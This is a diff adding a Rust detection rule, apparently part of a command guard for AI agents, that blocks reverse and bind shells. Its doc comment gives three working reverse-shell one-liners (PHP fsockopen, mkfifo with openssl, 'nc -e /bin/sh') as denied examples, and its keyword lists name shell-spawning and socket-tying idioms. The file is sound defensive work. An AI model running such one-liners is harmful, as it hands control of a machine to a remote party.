@@ -1,0 +1,204 @@
+//! `shell-on-connection`: a shell or an interpreter gets its commands from a connection: a reverse or a bind shell, in
+//! whatever language.
+//!
+//! ## Why
+//! Somebody else then types commands on this machine. Nothing honest looks like it. ATT&CK T1059, T1095, T1571.
+//!
+//! ## Examples
+//! - denied: `php -r '$s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`
+//! - denied: `mkfifo p; sh -i < p 2>&1 | openssl s_client -quiet -connect 203.0.113.9:4444 > p`
+//! - denied: `nc -e /bin/sh 203.0.113.9 4444`
+//! - passes: `nc -zv localhost 5432`
+//! - passes: `openssl s_client -connect example.org:443 < /dev/null`
+//! - passes: `python3 -c "import socket; print(socket.gethostname())"`
+//!
+//! ## Instead
+//! Ask the user to open a session, as with `ssh`.
+
+use guard_sdk::syntax::Command;
+use guard_sdk::{Outcome, Rule};
+
+use super::{Hit, code};
+use crate::kinds::{CONNECTORS, SHELLS, has_any, is_any};
+use crate::view::{View, name, texts};
+
+pub(crate) const RULE: Rule = Rule {
+    id: "shell-on-connection",
+    summary: "a shell that somebody else types into",
+    default: Outcome::Deny,
+    ceiling: Outcome::Deny,
+};
+
+/// Calls that start a shell or run a text.
+const STARTS: &[&str] = &[
+    "exec",
+    "system",
+    "popen",
+    "proc_open",
+    "passthru",
+    "shell_exec",
+    "spawn",
+    "subprocess",
+    "os.execute",
+    "io.popen",
+    "IO.popen",
+    "ProcessBuilder",
+    "Runtime.getRuntime",
+    "iex",
+    "Invoke-Expression",
+    "Command(",
+    "`",
+    "getline",
+];
+
+/// What ties a connection to what is started.
+const TIES: &[&str] = &[
+    "dup2",
+    "fileno",
+    "<&",
+    ">&",
+    "|&",
+    "fdopen",
+    "open(STDIN",
+    "open STDIN",
+    "pty.spawn",
+    ".pipe(",
+    "stdin=s",
+    "stdin: s",
+    "Stdin=c",
+    "Stdin = c",
+    "0=>$s",
+    "0 => $s",
+    "c.print",
+    "c.puts",
+    "GetStream",
+    "getInputStream",
+    "$s.Write",
+    "while<>",
+    "while <",
+    "STDIN->",
+    ".gets",
+    "print S",
+    "ProcessBuilder(",
+];
+
+/// Shells as code names them.
+const NAMED: &[&str] = &[
+    "/bin/sh",
+    "/bin/bash",
+    "/bin/zsh",
+    "bash -i",
+    "sh -i",
+    "'sh'",
+    "\"sh\"",
+    "'bash'",
+    "\"bash\"",
+    "cmd.exe",
+    "powershell",
+    "cmd\"",
+    "\"sh -",
+];
+
+pub(crate) fn check(view: &View<'_>) -> Option<Hit> {
+    let served = view
+        .analysis
+        .effects
+        .iter()
+        .any(|effect| effect.operation == "execute.served" && serves_a_shell(&effect.target));
+    let found = served
+        || view.scripts().any(|script| is_shell_on_connection(&script.text))
+        || view.commands().any(|command| by_command(command, view));
+    found.then(|| {
+        Hit::new(
+            "Gives a shell on this machine to whoever is at the other end of a connection",
+            "ask the user to open a session, as with `ssh`",
+        )
+    })
+}
+
+/// Whether what is served is a shell or an interpreter, not a program of the user's own.
+fn serves_a_shell(target: &str) -> bool {
+    let program = target.split([' ', ',']).next().unwrap_or_default().trim_matches(['\'', '"']);
+    let program = program.rsplit('/').next().unwrap_or_default();
+    target.starts_with("/dev/") || is_any(program, SHELLS) || has_any(program, &["python", "perl", "ruby"])
+}
+
+/// Whether the code ties a shell to a connection.
+fn is_shell_on_connection(text: &str) -> bool {
+    if !code::connects(text) {
+        return false;
+    }
+    let starts = has_any(text, STARTS);
+    let tied = has_any(text, TIES)
+        && (has_any(text, NAMED)
+            || has_any(
+                text,
+                &["system$_", "system($_", "IO.popen(", "|& getline", "iex", "Invoke-Expression", "exec [gets"],
+            ));
+    // What comes in is run: the answer of one call is the text of another one.
+    let receives = has_any(text, &["recv(", ".receive(", "readline()", "c.gets", ".Read("]);
+    let runs = has_any(
+        text,
+        &["shell=True", "os.popen(", "os.system(", "getoutput(", "IO.popen(", "iex ", "child_process", "exec("],
+    );
+    starts && (tied || receives && runs && has_any(text, &["connect(", "TCPSocket", "TCPClient", "bind(", "accept("]))
+}
+
+fn by_command(command: &Command, view: &View<'_>) -> bool {
+    let program = name(command);
+    // A shell and a connection in one pipeline, each feeding the other.
+    let connects = is_any(&program, CONNECTORS)
+        || program == "openssl" && texts(command).any(|text| matches!(text, "s_client" | "s_server"));
+    if connects && !texts(command).any(|text| text == "-z") {
+        let stages = view.index().pipeline(command);
+        let is_reader = |other: &&&Command| {
+            let words = || texts(other).filter(|text| !text.starts_with('-'));
+            let interactive = texts(other).any(|text| text == "-i") || words().next().is_none();
+            is_any(&name(other), SHELLS) && interactive && !texts(other).any(|text| text.starts_with("-c"))
+        };
+        if stages.iter().any(|other| other.id != command.id && is_reader(&other)) {
+            return true;
+        }
+    }
+    // Languages without a script of their own in the analysis.
+    const INTERPRETERS: &[&str] = &[
+        "go",
+        "java",
+        "jshell",
+        "jrunscript",
+        "tclsh",
+        "wish",
+        "expect",
+        "erl",
+        "elixir",
+        "julia",
+        "swift",
+        "scala",
+        "groovy",
+        "kotlin",
+        "rscript",
+        "r",
+        "nodejs",
+        "deno",
+        "bun",
+        "gawk",
+        "awk",
+        "zsh",
+        "pwsh",
+        "powershell",
+        "v",
+        "crystal",
+        "nim",
+        "dart",
+        "lua",
+        "luajit",
+    ];
+    let fed = || command.redirections.iter().flat_map(|one| [one.body.as_str(), one.target.text.as_str()]);
+    if is_any(&program, INTERPRETERS) && texts(command).chain(fed()).any(is_shell_on_connection) {
+        return true;
+    }
+    program == "ztcp"
+        && view.commands().any(|other| {
+            is_any(&name(other), SHELLS) && other.redirections.iter().any(|one| one.target.text.contains("REPLY"))
+        })
+}
